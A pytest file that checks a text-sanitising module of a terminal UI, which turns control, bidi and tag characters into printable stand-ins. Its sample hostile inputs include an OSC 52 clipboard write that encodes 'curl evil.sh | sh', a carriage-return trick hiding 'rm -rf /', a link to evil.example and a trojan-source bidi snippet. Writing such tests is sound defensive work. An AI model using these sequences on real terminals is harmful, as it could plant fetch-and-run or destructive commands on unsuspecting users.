"""Untrusted text made visible: every C0/C1 control, DEL, bidi control, separator, tag character
and lone surrogate gets a printable stand-in; everything else is kept; JSON keeps the exact text."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragcov_tui.shared.safe_text import (
    BIDI_CONTROLS,
    UNSAFE,
    escape_json_text,
    is_safe,
    single_line,
    stand_in,
    visible,
    visible_line,
)

C0 = [chr(c) for c in range(0x20)]
C1 = [chr(c) for c in range(0x80, 0xA0)]
CONTROLS = C0 + ["\x7f"] + C1  # the 65 control codes
OTHER_UNSAFE = list(BIDI_CONTROLS) + ["\u2028", "\u2029", "\ud800", "\udfff", "\U000e0001", "\U000e0041", "\U000e007f"]
HOSTILE = {
    "osc 0 title": "\x1b]0;pwned\x07",
    "osc 2 title, ST": "\x1b]2;PWNTITLE\x1b\\",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "csi clear screen": "\x1b[2J\x1b[H",
    "8-bit csi": "\x9b2J\x9dtitle\x9c",
    "sgr hide": "\x1b[8mhidden\x1b[0m",
    "carriage return overwrite": "rm -rf /\rls -la   ",
    "bidi trojan source": "access = \u202e }\u2066if (admin)\u2069 \u2066{",
    "nul and bell": "a\x00b\x07c",
    "tag smuggling": "hi\U000e0049\U000e0047\U000e004e",
}
ANY_CHAR = st.characters() | st.sampled_from(CONTROLS + OTHER_UNSAFE)  # unsafe ones often, not by luck
HARMLESS = [
    "plain text",
    "Ünïcödé façade",
    "日本語の質問",
    "emoji 🙂👍🏽",
    "[bold red]markup[/]",
    "tab\tand\nnewline",
    "a\\x1b literal backslash",
    "zero\u200bwidth space",
    "arabic مرحبا",
    "hebrew שלום",
]


def unsafe_in(text: str, *, multiline: bool) -> list[str]:
    return [c for c in UNSAFE.findall(text) if not (multiline and c in "\n\t")]


@pytest.mark.parametrize("char", CONTROLS + OTHER_UNSAFE, ids=lambda c: f"U+{ord(c):04X}")
def test_every_unsafe_character_gets_a_printable_stand_in(char: str) -> None:
    text = f"before{char}after"
    line = visible_line(text)
    assert unsafe_in(line, multiline=False) == []
    assert line == f"before{stand_in(char)}after"
    assert stand_in(char).isprintable()
    block = visible(text)
    if char in "\n\t":
        assert block == text
    else:
        assert block == line
    assert is_safe(block) and is_safe(line, multiline=False)


def test_there_are_65_control_codes_and_each_stand_in_is_distinct() -> None:
    assert len(CONTROLS) == 65
    stand_ins = [stand_in(c) for c in CONTROLS + OTHER_UNSAFE]
    assert len(set(stand_ins)) == len(stand_ins)


@pytest.mark.parametrize(
    ("char", "shown"),
    [
        ("\x1b", "␛"),
        ("\x07", "␇"),
        ("\x00", "␀"),
        ("\r", "␍"),
        ("\n", "␊"),
        ("\t", "␉"),
        ("\x7f", "␡"),
        ("\x9b", "\\x9b"),
        ("\x85", "\\x85"),
        ("\u202e", "<U+202E>"),
        ("\u2066", "<U+2066>"),
        ("\ud800", "<U+D800>"),
        ("\U000e0041", "<U+E0041>"),
    ],
)
def test_documented_stand_ins(char: str, shown: str) -> None:
    assert stand_in(char) == shown


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize("form", [visible, visible_line, single_line])
def test_hostile_sequences_lose_every_escape(name: str, form) -> None:
    out = form(HOSTILE[name] + "\n" + HOSTILE[name])
    assert unsafe_in(out, multiline=form is visible) == []
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out


def test_osc_title_reads_as_text() -> None:
    assert visible("\x1b]0;pwned\x07\x1b[2J") == "␛]0;pwned␇␛[2J"
    assert visible_line("doc\x1b]0;PWNTITLE\x07.md") == "doc␛]0;PWNTITLE␇.md"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_kept_exactly(text: str) -> None:
    assert visible(text) == text
    assert visible_line(text.replace("\n", " ").replace("\t", " ")) == text.replace("\n", " ").replace("\t", " ")


def test_line_breaks() -> None:
    assert visible("a\r\nb\rc\n") == "a\nb␍c\n"  # a Windows line end is a line end; a lone CR could overwrite
    assert visible_line("a\r\nb\nc") == "a␊b␊c"
    assert single_line("  what\r\n is\t\tit?\n ") == "what is it?"
    assert single_line("a\x1b[2Jb\n\nc") == "a␛[2Jb c"


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=ANY_CHAR, max_size=60))
def test_property_output_is_safe_idempotent_and_keeps_safe_text(text: str) -> None:
    block, line, flat = visible(text), visible_line(text), single_line(text)
    assert unsafe_in(block, multiline=True) == []
    assert unsafe_in(line, multiline=False) == [] and unsafe_in(flat, multiline=False) == []
    assert visible(block) == block and visible_line(line) == line and single_line(flat) == flat
    if not UNSAFE.search(text):
        assert block == text == line
    block.encode("utf-8")  # never a lone surrogate: printable to any UTF-8 terminal


@settings(max_examples=300, deadline=None)
@given(
    st.recursive(
        st.text(alphabet=ANY_CHAR) | st.integers() | st.none(),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
        max_leaves=12,
    )
)
def test_property_json_keeps_exact_text_and_no_raw_control(data) -> None:
    dumped = escape_json_text(json.dumps(data, ensure_ascii=False, indent=2))
    assert json.loads(dumped) == data
    assert [c for c in UNSAFE.findall(dumped) if c not in "\n"] == []  # json.dumps escapes C0 itself
    dumped.encode("utf-8")


def test_json_escapes_c1_and_bidi_as_u_escapes() -> None:
    text = "x\x9by\u202ez\x7f\U000e0041\x1b"
    dumped = escape_json_text(json.dumps({"q": text}, ensure_ascii=False))
    assert dumped == '{"q": "x\\u009by\\u202ez\\u007f\\udb40\\udc41\\u001b"}'
    assert json.loads(dumped)["q"] == text
